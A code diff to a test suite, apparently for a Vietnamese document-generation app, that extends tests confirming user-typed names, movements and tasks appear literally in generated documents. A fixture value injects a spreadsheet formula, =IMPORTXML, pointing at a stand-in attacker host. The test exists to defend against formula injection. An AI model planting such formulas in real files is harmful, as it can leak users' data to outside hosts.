@@ -8,6 +8,7 @@
 import { describe, expect, it } from 'vitest';
 import { useDocumentServices } from '../../src/adapters/services';
 import { generateDocument } from '../../src/app/documents';
+import { openMidYear } from '../../src/app/midYear';
 import { saveBallot } from '../../src/app/ballot';
 import { recompute } from '../../src/app/recompute';
 import { returnSubmission, submit } from '../../src/app/submission';
@@ -74,6 +75,12 @@ function hostileConfig(): { config: YearConfig; placed: Map<string, string> } {
     t.name = k === titles.length - 1 ? `=IMPORTXML("https://evil.example/t";"//a")` : next(`title ${t.id}`);
     placed.set(`title ${t.id}`, t.name);
   });
+  // The plan's movements (name, owner) and the báo cáo sơ kết's tasks.
+  config.movements!.forEach((m, k) => {
+    m.name = next(`movement ${k}`);
+    m.owner = next(`movement owner ${k}`);
+  });
+  config.tasks = config.tasks!.map((_, k) => next(`task ${k}`));
   return { config, placed };
 }
 
@@ -131,7 +138,7 @@ describe('people\'s text is written as text', () => {
     expect(checked).toBeGreaterThan(placed.size);
   });
 
-  it('a returned submission\'s reason reaches the unit\'s status line as typed, and the four documents show names, heads and the title voted as typed', () => {
+  it('a returned submission\'s reason reaches the unit\'s status line as typed, and the documents show names, heads, the title voted, movements and tasks as typed', () => {
     const g = newWorld();
     const { config, placed } = hostileConfig();
     expect(g.asUser(OWNER, () => setupYear(config)).ok).toBe(true);
@@ -157,7 +164,7 @@ describe('people\'s text is written as text', () => {
     const fakes = createDocumentFakes(g.env);
     useDocumentServices({ documentApp: fakes.DocumentApp, drive: fakes.Drive });
     try {
-      const textOf = (kind: 'covenant' | 'minutes' | 'report' | 'proposal'): string => {
+      const textOf = (kind: 'covenant' | 'minutes' | 'report' | 'proposal' | 'plan' | 'midYearReport'): string => {
         const made = g.asUser(LEADER, () => generateDocument(kind));
         expect(made.ok, `${kind}: ${made.message}`).toBe(true);
         const file = Object.values(fakes.store.drive.state.files).find((f) => !f.trashed && f.name === made.name);
@@ -185,6 +192,13 @@ describe('people\'s text is written as text', () => {
       expect(absent(textOf('report'), [...names, reason])).toEqual([]);
       // The proposal is signed by the head of the cụm trưởng's unit (Bình Dương): as typed.
       expect(absent(textOf('proposal'), [placed.get('head Bình Dương')!])).toEqual([]);
+      // The plan names every movement and its owner as typed; the báo cáo sơ kết its units and tasks.
+      const typed = (prefix: string) => [...placed].filter(([k, h]) => k.startsWith(prefix) && h.length < 1000).map(([, h]) => h);
+      expect(typed('movement ').length).toBeGreaterThan(3);
+      expect(absent(textOf('plan'), typed('movement '))).toEqual([]);
+      expect(g.asUser(LEADER, () => openMidYear()).ok).toBe(true);
+      expect(typed('task ').length).toBeGreaterThan(2);
+      expect(absent(textOf('midYearReport'), [...names, ...typed('task ')])).toEqual([]);
     } finally {
       useDocumentServices(null);
     }
